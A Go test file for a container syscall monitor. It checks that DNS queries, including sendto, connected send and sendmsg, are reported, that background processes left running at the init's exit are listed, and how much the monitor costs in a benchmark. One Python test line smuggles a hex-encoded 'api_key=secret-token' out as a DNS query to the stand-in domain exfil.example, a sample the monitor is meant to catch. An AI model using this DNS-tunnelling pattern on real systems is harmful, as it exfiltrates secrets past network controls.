package container_test

import (
	"context"
	"strings"
	"sync"
	"testing"

	"github.com/phylum-box/phylum-box/container"
)

// DNS queries are reported with their question: sent to an address, and sent
// on a socket connected to port 53 (send, sendmsg without a name, the way
// glibc and c-ares send). A send on a socket connected elsewhere is not.
func TestMonitorDNSQueries(t *testing.T) {
	requireMonitor(t)
	b := newBox(t)
	py := `import socket, struct
def q(name, t):
    m = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for l in name.split("."):
        m += bytes([len(l)]) + l.encode()
    return m + b"\0" + struct.pack(">HH", t, 1)
def attempt(f):
    try: f()
    except OSError: pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt(lambda: u.sendto(q("6170695f6b65793d7365637265742d746f6b656e.exfil.example", 1), ("203.0.113.53", 53)))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.connect(("127.0.0.1", 53))
attempt(lambda: c.send(q("connected.example", 28)))
attempt(lambda: c.sendmsg([q("sendmsg.example", 16)]))
o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
o.connect(("127.0.0.1", 9999))
attempt(lambda: o.send(q("not-dns.example", 1)))
attempt(lambda: c.send(b"not a query"))
`
	o, rec := monitored(t, b, nil, "python3", "-c", py)
	if o.ExitCode != 0 {
		t.Fatalf("exit %d: %s", o.ExitCode, o.stderr)
	}
	for _, want := range []struct{ call, addr, name, ty string }{
		{"sendto", "203.0.113.53:53", "6170695f6b65793d7365637265742d746f6b656e.exfil.example", "A"},
		{"sendto", "127.0.0.1:53", "connected.example", "AAAA"},
		{"sendmsg", "127.0.0.1:53", "sendmsg.example", "TXT"},
	} {
		if _, ok := rec.find(func(e container.SyscallEvent) bool {
			return e.Syscall == want.call && e.Addr == want.addr && e.DNSName == want.name && e.DNSType == want.ty
		}); !ok {
			t.Errorf("no %s of %s %s to %s in:%s", want.call, want.name, want.ty, want.addr, dnsEvents(rec))
		}
	}
	// The twins: a send on a socket connected elsewhere is not reported, and
	// a datagram to port 53 that is no query is reported without a name.
	if e, ok := rec.find(func(e container.SyscallEvent) bool {
		return e.Syscall != "connect" && strings.Contains(e.Addr, ":9999")
	}); ok {
		t.Errorf("a send on a socket connected to port 9999 was reported: %+v", e)
	}
	if _, ok := rec.find(func(e container.SyscallEvent) bool {
		return e.Syscall == "sendto" && e.Addr == "127.0.0.1:53" && e.DNSName == ""
	}); !ok {
		t.Errorf("the datagram to port 53 that is no query was not reported:%s", dnsEvents(rec))
	}
}

func dnsEvents(r *recorder) string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var b strings.Builder
	for _, e := range r.events {
		if e.Addr != "" {
			b.WriteString("\n  " + e.Syscall + " " + e.Addr + " " + e.DNSName + " " + e.DNSType)
		}
	}
	return b.String()
}

// The container's first process ending is reported before it ends, with what
// still runs beside it: a background process its script left behind, not one
// that was waited for.
func TestMonitorExitLists(t *testing.T) {
	requireMonitor(t)
	b := newBox(t)
	run := func(t *testing.T, script string) (initExits int, running [][]string) {
		var mu sync.Mutex
		m := &container.Monitor{OnEvent: func(e container.SyscallEvent) {
			if e.Syscall != "exit_group" || !e.Init {
				return
			}
			mu.Lock()
			defer mu.Unlock()
			initExits++
			for _, p := range e.Running() {
				if p.Pid <= 1 || p.StartTime == 0 {
					t.Errorf("running process %+v", p)
				}
				running = append(running, p.Argv)
			}
		}}
		o := b.run(context.Background(), func(s *container.Spec) { s.Monitor = m }, "sh", "-c", script)
		if !o.Monitored || o.ExitCode != 0 {
			t.Fatalf("monitored %v exit %d: %s", o.Monitored, o.ExitCode, o.stderr)
		}
		return initExits, running
	}
	t.Run("nohup left behind", func(t *testing.T) {
		n, running := run(t, "nohup sleep 60 >/dev/null 2>&1 & (sleep 61 &) ; /bin/true")
		if n != 1 {
			t.Fatalf("%d exits of the init reported, want 1", n)
		}
		var got []string
		for _, a := range running {
			got = append(got, strings.Join(a, " "))
		}
		if len(got) != 2 || !strings.Contains(strings.Join(got, ","), "sleep 60") || !strings.Contains(strings.Join(got, ","), "sleep 61") {
			t.Fatalf("running at the end: %q, want the two sleeps", got)
		}
	})
	t.Run("children waited for", func(t *testing.T) {
		n, running := run(t, "sleep 0.1 & wait; /bin/true; /bin/true")
		if n != 1 || len(running) != 0 {
			t.Fatalf("%d exits, running %q: want one exit and nothing running", n, running)
		}
	})
}

// BenchmarkMonitorSend runs a container that sends 2000 datagrams on a socket
// connected to a port other than 53, without and with the monitor: every send
// is notified now (a send on a connected socket may be a DNS query), and the
// difference is what that costs a build that sends (the socket's peer is looked
// up once, then only its inode is read).
func BenchmarkMonitorSend(b *testing.B) {
	if !container.SeccompCompiled {
		b.Skip("built without -tags seccomp: no monitor")
	}
	bx := newBoxB(b)
	py := "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.connect(('127.0.0.1',9))\nfor i in range(2000):\n    try: s.send(b'x')\n    except OSError: pass\n"
	for _, bc := range []struct {
		name    string
		monitor bool
	}{{"off", false}, {"on", true}} {
		b.Run(bc.name, func(b *testing.B) {
			for b.Loop() {
				var m *container.Monitor
				if bc.monitor {
					m = &container.Monitor{OnEvent: func(container.SyscallEvent) {}}
				}
				o := bx.run(context.Background(), func(s *container.Spec) { s.Monitor = m }, "python3", "-c", py)
				if o.ExitCode != 0 || o.Monitored != bc.monitor {
					b.Fatalf("exit %d monitored %v (%s): %s", o.ExitCode, o.Monitored, o.MonitorNote, o.stderr)
				}
			}
		})
	}
}
